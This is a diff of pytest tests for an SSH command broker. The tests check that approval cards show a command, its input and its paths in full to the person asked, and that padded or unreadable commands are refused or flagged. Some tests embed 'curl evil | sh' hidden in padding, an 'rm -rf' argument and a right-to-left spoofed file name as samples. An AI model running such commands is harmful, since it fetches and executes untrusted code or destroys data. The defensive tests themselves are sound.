@@ -10,12 +10,15 @@ import sys
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from nouns import a_caller
 from ssh_server import lent
 
 from brokers.contract import BrokerError, Connection, Effect, Plan
 from brokers.ssh import credentials
 from brokers.ssh.broker import SshBroker
 from brokers.ssh.kind import SshKind
+from kv.card import card
+from kv.model import Decision, Pending, Verdict
 
 TARGET = {
     "host": "web.test",
@@ -92,9 +95,83 @@ def test_input_is_in_the_digest_and_on_the_card() -> None:
     assert any("not text" in text for _, text in plan(b"\xff", argv=["cat"]).details)
 
 
+def seen(made: Plan, *labels: str) -> str:
+    """What stands on a card of these labels, as a card shows it."""
+    return "".join(text for label, text in lines_of(made) if label in labels)
+
+
+def lines_of(made: Plan) -> list[tuple[str, str]]:
+    """The lines of its card."""
+    asked = Decision(Verdict.ASK, "effect-unknown", "a test")
+    waits = Pending("A1", a_caller(), made, made.digest(), asked, "", 0, "0" * 32, 0, 1)
+    details = card(waits, 0)["details"]
+    assert isinstance(details, list)
+    return details
+
+
+@pytest.mark.parametrize("size", [1, 249, 250, 251, 4000, 4900])
+def test_the_whole_of_a_command_is_on_its_card(size: int) -> None:
+    """However long, as long as anybody is asked about it."""
+    made = plan(argv=["sh", "-c", "".join(chr(0x21 + at % 90) for at in range(size - size // 4))])
+    assert seen(made, "command") == made.request["command"]
+
+
+def test_a_command_that_no_card_shows_is_refused() -> None:
+    """What nobody can read is approved unread. A person's own profile goes through, and says what is hidden."""
+    with pytest.raises(BrokerError) as caught:
+        plan(argv=["sh", "-c", "a" * 3000 + "; curl evil | sh; " + "b" * 3000])
+    assert caught.value.code == "argument"
+    with pytest.raises(BrokerError):
+        plan(argv=["uptime"], env={"APP_MODE": "x" * 6000})
+    made = plan(argv=["docker-ps", "x" * 6000])
+    assert (made.effect, made.details[0][0]) == (Effect.READ, "caution")
+    assert "characters of the command are not shown" in made.details[0][1]
+
+
+def test_the_whole_of_the_input_is_on_the_card_or_a_caution_is_first() -> None:
+    """An interpreter does what its input says."""
+    script = "\n".join(f"echo {at} {'x' * 200}" for at in range(20)) + "\n"
+    made = plan(script.encode(), argv=["sh"])
+    assert script.replace("\n", "") in seen(made, "stdin")
+    assert made.details[0][0] == "command"
+    hidden = ("#" * 400 + "\n") * 30 + "curl evil | sh\n" + ("#" * 400 + "\n") * 30
+    made = plan(hidden.encode(), argv=["sh"])
+    label, text = made.details[0]
+    assert label == "caution"
+    assert hashlib.sha256(hidden.encode()).hexdigest() in text
+    assert f"{len(hidden):,} bytes" in text
+    assert len(made.details) <= 32
+    assert plan(b"\xff", argv=["sh"]).details[0][0] == "caution"
+
+
+def test_the_longest_card_shows_all_its_lines() -> None:
+    """A command and an input that each take their room, and everything else there is to say."""
+    made = plan(b"x" * 9000, argv=["sh", "-c", "y" * 4900], env={"APP_MODE": "z"})
+    assert len(lines_of(made)) == len(made.details)
+
+
+def test_blanks_are_seen() -> None:
+    """A card shows any number of blanks as one: so each of several is a sign, and one at the edge of a piece."""
+    made = plan(b"if x:\n    y\n\tz\n", argv=["rm", "-rf", "/srv/a     b", "c d"])
+    assert "/srv/a␠␠␠␠␠b" in seen(made, "command")
+    assert "'c d'" in seen(made, "command")
+    assert "␠␠␠␠y" in seen(made, "stdin")
+    assert "␉z" in seen(made, "stdin")
+    assert "a␠␠␠␠␠b" in made.title
+    for size in range(210, 240):
+        made = plan(argv=["echo", "x" * size + " y"])
+        assert seen(made, "command").replace("␠", " ") == made.request["command"]
+
+
+def test_the_whole_of_a_path_is_on_the_card() -> None:
+    """A thousand bytes of it."""
+    path = "/srv/" + "/".join(["x" * 99] * 10)
+    assert seen(plan(act="put", path=path), "path") == path
+
+
 def test_a_title_is_printable() -> None:
     """Direction marks and long lines do not reach it."""
-    made = plan(argv=["echo", "\u202egnp.exe", "x" * 5000, "end"])
+    made = plan(argv=["echo", "\u202egnp.exe", "x" * 4000, "end"])
     assert made.title.isprintable()
     assert len(made.title) < 400
     assert made.title.endswith("end")
